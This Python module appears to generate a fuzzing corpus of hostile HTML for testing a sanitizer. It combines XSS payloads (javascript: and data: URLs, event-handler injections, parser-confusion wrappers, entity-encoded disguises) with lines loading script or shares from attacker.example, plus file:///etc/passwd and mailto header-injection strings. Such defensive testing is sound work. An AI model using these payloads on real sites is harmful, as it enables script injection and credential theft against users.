"""Makes hostile HTML by combining carriers, addresses, disguises and breakages; no list of anybody else's."""

from collections.abc import Iterator
from html import escape

SCRIPT_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\x00script:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2Zy8+",
    "file:///etc/passwd",
    "//attacker.example/share/x.png",
    "\\\\attacker.example\\share\\x.png",
    "https:\\\\attacker.example",
    "https://user:secret@attacker.example/",
    "https://nacka.example@attacker.example/",
    "ms-settings:",
    "search-ms:query=x",
    "smb://attacker.example/x",
    "blob:https://x/1",
    "about:blank",
    "view-source:https://x",
    "cache:short",
    "cache:" + "z" * 64,
    "https://\u202egpj.exe.example/",
    "tel:*21*0123#",
    "mailto:a@b.se?bcc=c@d.se&body=x%0d%0aBcc:e@f.se",
    "https://",
    "https:///x",
    "https://exa mple.se/",
    "https://x:99999/",
    "http://[::1",
    "ftp://x/y",
)
CARRIERS = (
    '<a href="{0}">x</a>',
    "<a href='{0}'>x</a>",
    '<img src="{0}" alt="x">',
    '<img srcset="{0} 1x" src="{0}">',
    '<iframe src="{0}"></iframe>',
    '<object data="{0}"></object>',
    '<embed src="{0}">',
    '<form action="{0}"><input type="submit" formaction="{0}"></form>',
    '<svg><a xlink:href="{0}"><text>x</text></a></svg>',
    '<math><mi xlink:href="{0}">x</mi></math>',
    '<body background="{0}"><table background="{0}"><td background="{0}">x</td></table>',
    '<link rel="stylesheet" href="{0}">',
    '<base href="{0}"><a href="x">x</a>',
    '<meta http-equiv="refresh" content="0;url={0}">',
    '<video poster="{0}" src="{0}"><source src="{0}"></video>',
    '<div style="background:url({0})">x</div>',
    '<style>@import "{0}"; p {{ background: url({0}) }}</style>',
    '<blockquote cite="{0}">x</blockquote>',
    '<p dir="{0}" lang="{0}" class="{0}" id="{0}" title="{0}">x</p>',
    '<area href="{0}"><map name="m"><area href="{0}"></map>',
    '<button formaction="{0}">x</button>',
    '<isindex action="{0}"><keygen autofocus onfocus="{0}">',
)
HANDLERS = ("onclick", "onerror", "onload", "ONMOUSEOVER", "onfocus", "onanimationstart", "onpointerenter")
ELEMENTS = (
    "p",
    "a",
    "img",
    "table",
    "td",
    "li",
    "h2",
    "details",
    "marquee",
    "svg",
    "math",
    "body",
    "input",
    "template",
)
BREAKAGES = (
    "{0}",
    "<p>{0}",
    "<!--{0}-->",
    "<!--><p>{0}",
    "<![CDATA[{0}]]>",
    "<noscript>{0}</noscript>",
    "<template>{0}</template>",
    "<svg><style>{0}</style></svg>",
    "<math><mtext><table><mglyph><style>{0}</style></mglyph></table></mtext></math>",
    "<title>{0}</title>",
    "<textarea>{0}</textarea>",
    "<xmp>{0}</xmp>",
    "<plaintext>{0}",
    "<table><tr>{0}",
    "<select><option>{0}</select>",
    "<p title='</p>{0}'>",
    '<a title="{0}">x</a>',
    "<<p>{0}",
    "<p/{0}",
    "</p>{0}</script>",
    "<form><form>{0}",
    "<b><i>{0}</b></i>",
)


def disguises(address: str) -> Iterator[str]:
    """The same address as browsers would still understand it."""
    yield escape(address)
    yield "".join(f"&#{ord(letter)};" for letter in address)
    yield "".join(f"&#x{ord(letter):06x}" for letter in address)
    yield address.replace(":", "&colon;")
    yield escape(address).replace("a", "&#97;", 1)


def hostile_fragments() -> Iterator[str]:
    """Some thousands of fragments, each of which runs, loads or leads astray in some careless reader."""
    for address in SCRIPT_ADDRESSES:
        for disguise in disguises(address):
            for carrier in CARRIERS:
                yield carrier.format(disguise)
    payloads = [
        "<script>alert(1)</script>",
        "<script src=https://attacker.example/x.js></script>",
        "<SCRIPT/x>alert(1)",
    ]
    payloads += [f"<{element} {handler}=alert(1) src=x href=x>x" for element in ELEMENTS for handler in HANDLERS]
    payloads += [f"<{element}/{handler}='alert(1)'>x</{element}>" for element in ELEMENTS for handler in HANDLERS]
    for payload in payloads:
        for breakage in BREAKAGES:
            yield breakage.format(payload)
